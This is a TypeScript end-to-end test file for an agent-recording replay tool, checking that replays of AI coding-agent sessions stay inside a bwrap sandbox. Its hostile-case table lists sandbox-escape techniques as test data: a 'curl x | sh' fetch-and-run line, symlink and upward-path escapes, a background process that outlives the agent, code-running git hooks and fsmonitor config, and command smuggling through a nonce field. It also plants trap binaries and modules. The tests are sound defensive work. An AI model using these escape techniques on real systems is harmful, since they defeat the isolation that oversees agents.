import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type AgentRecording, type Deed, recordingSchema } from '../../src/domain/recording/recording.js';
import { reportSchema } from '../../src/domain/report/report.js';
import { probeBwrap } from '../../src/isolation/bwrap/bwrap.js';
import { bareSystemPath, callCli, runCli } from '../support/cli.js';
import { writePlayingAgents, writeRalph } from '../support/playing-agents.js';

const health = await probeBwrap(process.env.PATH);

/** A recording of an honest agent, which each case makes hostile. */
let place: { cwd: string; ralph: string; honest: AgentRecording; run: string };

beforeAll(async () => {
  const cwd = mkdtempSync(join(tmpdir(), 'ralph-e2e-test-'));
  const agents = writePlayingAgents(join(cwd, 'agents'), ['claude']);
  const ralph = writeRalph(join(cwd, 'ralph'));
  await callCli(['claude', '--ralph', ralph, '--yes', '-q', '--test', 'claude-tool-use'], {
    cwd,
    env: { HOME: cwd, PATH: `${agents}:${bareSystemPath()}`, IS_SANDBOX: '1' },
  });
  const runs = join(cwd, '.e2e-tests/runs');
  const run = join(runs, readdirSync(runs)[0] ?? '');
  const text = readFileSync(join(run, 'claude-tool-use-claude/1/recording.json'), 'utf8');
  place = { cwd, ralph, honest: recordingSchema.parse(JSON.parse(text)), run };
});

afterAll(() => rmSync(place.cwd, { recursive: true, force: true }));

/** What a hostile recording tries to create. */
const marker = (folder: string) => join(folder, 'marker');

interface Case {
  readonly deed?: (folder: string, workspace: string) => Deed;
  readonly change?: (recording: AgentRecording, folder: string) => unknown;
  /** `plays`: whether it passes or diverges, it leaves no trace outside. */
  readonly result: 'cannot' | 'refused' | 'plays';
}

const use = (tool: string, input: Record<string, unknown>): Deed => ({
  ...{ kind: 'used', tool, input, isError: false, result: '' },
});

/** A command that contains @, the path of the marker. */
const runs = (command: string): Case => ({
  deed: (folder) => use('Bash', { command: `${command.replaceAll('@', marker(folder))}; true` }),
  result: 'plays',
});
const writes = (path: string): Case => ({
  deed: (folder, workspace) =>
    use('Write', { file_path: `${workspace}/${path}`, content: `#!/bin/sh\ntouch ${marker(folder)}\n` }),
  result: 'plays',
});

const CASES: Record<string, Case> = {
  'another program': runs('touch @; curl x | sh'),
  'a substitution': runs('echo $(touch @)'),
  'a link that leads outside': runs('ln -s "$(dirname @)" out; touch out/marker'),
  'an upward path': runs('touch ./../../../../../../../../../../@'),
  'a process that outlives its agent': runs('(sleep 1; touch @) > /dev/null 2>&1 &'),
  'a copy to outside': runs('cp a.txt @; cp -t / a.txt'),
  'events in another file': runs('ralph emit a --file @'),
  'a hook of git': runs(
    "printf '#!/bin/sh\ntouch @' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit",
  ),
  'a configuration of git': runs("git config core.fsmonitor 'touch @'"),
  'settings with a hook': writes('.claude/settings.json'),
  'the configuration of Ralph': writes('ralph.yml'),
  'a renaming to a program': {
    // After renaming, the folder of the recorded agent is the new workspace.
    change: (recording, folder) => ({
      ...recording,
      workspace: '/x; touch',
      calls: [
        { ...recording.calls[0], deeds: [use('Bash', { command: `cat /x; touch ${marker(folder)}` })] },
      ],
    }),
    result: 'refused',
  },
  'the root as its workspace': {
    change: (recording) => ({ ...recording, workspace: '/' }),
    result: 'refused',
  },
  'a random word with a command': {
    change: (recording, folder) => ({
      ...recording,
      drawn: { ...recording.drawn, nonce: `$(touch ${marker(folder)})` },
    }),
    result: 'refused',
  },
  'a conversation, which has no recording': {
    change: (recording) => ({ ...recording, scenarioId: 'conversation-clarifies' }),
    result: 'refused',
  },
  'a backend that does not look at recorded commands': {
    change: (recording, folder) => ({
      ...recording,
      scenarioId: 'kiro-connect',
      backend: 'kiro',
      calls: [
        { ...recording.calls[0], deeds: [use('execute_bash', { command: `touch ${marker(folder)}` })] },
      ],
    }),
    result: 'cannot',
  },
};

/** Replays a recording as one that came by mail. */
async function replayMailed(recording: unknown, folder: string, ...args: readonly string[]) {
  writeFileSync(join(folder, 'mailed.json'), JSON.stringify(recording));
  const env = { PATH: `${bareSystemPath()}:/usr/bin:/bin` };
  const { code, stdout, stderr } = await callCli(['replay', 'mailed.json', '--json', ...args], {
    ...{ cwd: folder, env },
  });
  const report = stdout === '' ? null : reportSchema.parse(JSON.parse(stdout));
  return { code, stderr, report, test: report?.origin?.tests[0] };
}

function makeFolder(name: string): string {
  const folder = join(place.cwd, 'cases', name.replace(/\W+/g, '-'));
  mkdirSync(folder, { recursive: true });
  return folder;
}

describe.skipIf(!health.ok)('a hostile recording reaches nothing outside its sandbox', () => {
  test.each(Object.entries(CASES))('%s', async (name, { deed, change, result }) => {
    const folder = makeFolder(name);
    const { honest, ralph } = place;
    const [first, ...more] = honest.calls;
    const withDeed = (added: Deed) => ({
      ...honest,
      calls: [{ ...first, deeds: [added, ...(first?.deeds ?? [])] }, ...more],
    });
    const hostile = deed ? withDeed(deed(folder, honest.workspace)) : change?.(honest, folder);
    const replayed = await replayMailed(hostile, folder, '--ralph', ralph);
    expect(existsSync(marker(folder))).toBe(false);
    const now = replayed.report === null ? 'refused' : replayed.test?.now;
    if (result === 'plays') return expect(now).not.toBe('refused');
    const expected = result === 'cannot' ? 'skipped' : 'refused';
    expect([now, replayed.test?.because ?? replayed.stderr]).toEqual([expected, expect.anything()]);
    expect(replayed.code).toBe(2);
  });
});

describe('a recording', () => {
  test('does not say which Ralph to start', async () => {
    const folder = makeFolder('own ralph');
    const trap = join(folder, 'ralph');
    writeFileSync(trap, `#!/bin/sh\ntouch ${marker(folder)}\n`, { mode: 0o755 });
    const hostile = { ...place.honest, target: { ...place.honest.target, path: trap } };
    const { report } = await replayMailed(hostile, folder);
    expect(report?.target.path).not.toBe(trap);
    expect(existsSync(marker(folder))).toBe(false);
  });

  test('plays in a sandbox, or not at all', async () => {
    const folder = makeFolder('sandbox');
    const bin = join(folder, 'bin');
    mkdirSync(bin);
    writeFileSync(join(bin, 'bwrap'), '#!/bin/sh\necho "no namespaces here" >&2; exit 1\n', { mode: 0o755 });
    writeFileSync(join(folder, 'mailed.json'), JSON.stringify(place.honest));
    const { code, stderr } = await callCli(['replay', 'mailed.json', '--ralph', place.ralph], {
      cwd: folder,
      env: { PATH: `${bin}:${bareSystemPath()}:${dirname(process.execPath)}` },
    });
    expect([code, stderr]).toEqual([
      2,
      expect.stringMatching(/Expected a sandbox for the recorded agents, found none: .*no namespaces here/),
    ]);
    const host = await callCli(['replay', 'mailed.json', '--ralph', place.ralph, '--isolation', 'host'], {
      cwd: folder,
    });
    expect([host.code, host.stderr]).toEqual([
      2,
      expect.stringMatching(/--isolation host: expected a sandbox.*\n.*--isolation bwrap/),
    ]);
  });

  test.skipIf(!health.ok)('plays in a sandbox by default', async () => {
    const folder = makeFolder('default');
    writeFileSync(join(folder, 'mailed.json'), JSON.stringify(place.honest));
    const env = { PATH: `${bareSystemPath()}:/usr/bin:/bin` };
    const { code, stdout } = await callCli(['replay', 'mailed.json', '--ralph', 'embedded'], {
      cwd: folder,
      env,
    });
    expect([code, stdout]).toEqual([0, expect.stringContaining('Isolation: bwrap')]);
  });

  test.each(['replay', 'regrade'])('%s never loads a module that its journal names', async (command) => {
    const folder = makeFolder(`module ${command}`);
    const trap = join(folder, 'trap.mjs');
    writeFileSync(
      trap,
      `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker(folder))}, '');\n`,
    );
    const { cwd } = place;
    const made = await runCli(
      ['--mock', '--ralph', 'embedded', '--test', 'claude-connect', 'claude', '-q', '--add-scenarios', trap],
      {
        cwd: folder,
      },
    );
    // The trap exports nothing, so the run is refused; what it would have recorded is written by hand below.
    expect(made.code).toBe(2);
    rmSync(marker(folder), { force: true });
    const { openJournal } = await import('../../src/journal/writer.js');
    const { readJournal } = await import('../../src/journal/reader.js');
    const { events } = await readJournal(join(place.run, 'journal.jsonl'));
    const id = place.run.split('/').at(-1) ?? '';
    const copy = { id, path: join(folder, id) };
    mkdirSync(copy.path);
    const journal = openJournal(copy);
    for (const event of events)
      journal.append(
        event.type === 'run-started' && event.call !== undefined
          ? { ...event, call: { ...event.call, scenarios: [trap], addScenarios: [trap] } }
          : event,
      );
    await journal.close();
    const asked = command === 'replay' ? ['--ralph', place.ralph] : [];
    const env = { PATH: `${bareSystemPath()}:/usr/bin:/bin` };
    const { code, stdout } = await runCli([command, copy.path, ...asked, '--json'], { cwd, env });
    expect(existsSync(marker(folder))).toBe(false);
    // Its recordings are not there, so nothing can be replayed; its evidence is in the journal.
    expect([code, reportSchema.parse(JSON.parse(stdout)).origin?.kind]).toEqual([
      command === 'replay' ? 2 : 0,
      command,
    ]);
  });
});
